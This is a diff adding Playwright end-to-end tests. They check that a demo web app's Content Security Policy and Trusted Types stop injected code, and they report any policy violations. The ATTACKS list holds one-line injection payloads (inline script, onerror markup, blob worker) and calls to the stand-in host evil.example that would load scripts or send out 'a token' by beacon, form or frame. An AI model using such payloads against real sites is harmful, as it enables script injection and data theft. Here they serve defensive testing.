@@ -1,0 +1,100 @@
+import { readdir } from 'node:fs/promises';
+import { fileURLToPath } from 'node:url';
+import type { BrowserContext, Page } from '@playwright/test';
+import { boardReady } from '../pages/board-page.ts';
+import { deviceIn } from '../pages/room-page.ts';
+import { startStick } from '../programs/stick.ts';
+import { expect, test } from '../test.ts';
+import { tourSeen } from '../tour-seen.ts';
+
+const DEMO = fileURLToPath(new URL('../../dist/demo/', import.meta.url));
+
+test.use({ serviceWorkers: 'allow' });
+
+/** Collects the violations in every page and frame of a browser. */
+async function violationsIn(context: BrowserContext): Promise<readonly string[]> {
+  const found: string[] = [];
+  await context.exposeBinding('reportViolation', (_, told: string) => void found.push(told));
+  await context.addInitScript(() => {
+    const { reportViolation } = window as unknown as { reportViolation(told: string): void };
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, disposition }) =>
+      reportViolation(`${location.pathname}: ${effectiveDirective} ${blockedURI} ${disposition}`),
+    );
+  });
+  return found;
+}
+
+/** Every page of the demo except further addresses of the same device. */
+async function pagesOf(): Promise<readonly string[]> {
+  const all = await readdir(DEMO, { recursive: true });
+  return all
+    .filter((path) => path.endsWith('index.html') && (path.split('/').length <= 3 || path.startsWith('device/3/')))
+    .map((path) => path.replace(/index\.html$/, ''));
+}
+
+/** Attacks, and the rule that stops each: Trusted Types come before the rules of scripts and workers. */
+const ATTACKS = [
+  ['require-trusted-types-for', `document.createElement('script').textContent = 'document.title = "broken in"'`],
+  ['require-trusted-types-for', `document.body.setAttribute('onclick', 'document.title = "broken in"')`],
+  ['require-trusted-types-for', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=1>')`],
+  ['require-trusted-types-for', `new Worker(URL.createObjectURL(new Blob([''])))`],
+  ['require-trusted-types-for', `document.createElement('script').src = 'https://evil.example/a.js'`],
+  ['connect-src', `new EventSource('https://evil.example/')`],
+  ['connect-src', `navigator.sendBeacon('https://evil.example/', 'a token')`],
+  ['img-src', `new Image().src = 'https://evil.example/a.png'`],
+  ['style-src-elem', `document.head.append(Object.assign(document.createElement('style'), { textContent: 'p {}' }))`],
+  ['style-src-attr', `document.body.setAttribute('style', 'display: none')`],
+  [
+    'frame-src',
+    `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
+  ],
+  [
+    'form-action',
+    `Object.assign(document.body.appendChild(document.createElement('form')), { action: 'https://evil.example/' }).submit()`,
+  ],
+] as const;
+
+/** Runs a line as a program that is already in the page would, outside the page's own policy for scripts. */
+const attack = (page: Page, line: string) => page.evaluate(line).catch(() => {});
+
+test('[SIM-2][TOUR-9] a working demo violates its security policy nowhere', async ({ keep, openPage }) => {
+  test.setTimeout(600_000);
+  const stick = await keep(startStick());
+  const room = await openPage('about:blank', tourSeen(stick.origin));
+  const violations = await violationsIn(room.context());
+  await room.goto(`${stick.origin}/`);
+  await boardReady(deviceIn(room, 3));
+  await expect(room.getByText('Listo sin conexión')).toBeVisible({ timeout: 120_000 });
+  await room.getByRole('button', { name: 'Un pedido más' }).click();
+  const device = await room.context().newPage();
+  await device.goto(`${stick.origin}/device/4/`);
+  await expect(device.getByRole('heading', { name: 'KITCHEN' })).toBeVisible();
+  for (const path of await pagesOf()) {
+    await device.goto(`${stick.origin}/${path}`);
+    await expect(device.locator('body')).not.toBeEmpty();
+  }
+  expect(violations).toEqual([]);
+});
+
+test('[SIM-2][TOUR-9] the policy of the demo is enforced on the room, a device and its other pages', async ({
+  keep,
+  openPage,
+}) => {
+  const stick = await keep(startStick());
+  const page = await openPage('about:blank', tourSeen(stick.origin));
+  const violations = await violationsIn(page.context());
+  await page.close();
+  for (const path of ['', 'device/3/', 'device/account/', 'identity/', 'shop/', 'player/']) {
+    const attacked = await page.context().newPage();
+    await attacked.goto(`${stick.origin}/${path}`);
+    await expect(attacked.locator('body')).not.toBeEmpty();
+    for (const [rule, line] of ATTACKS) {
+      const before = violations.length;
+      await attack(attacked, line);
+      const stopped = () => violations.slice(before).some((one) => one.includes(`: ${rule} `));
+      await expect.poll(stopped, { message: `${path}: ${line}` }).toBe(true);
+    }
+    expect(await attacked.title()).not.toBe('broken in');
+    await attacked.close();
+  }
+});
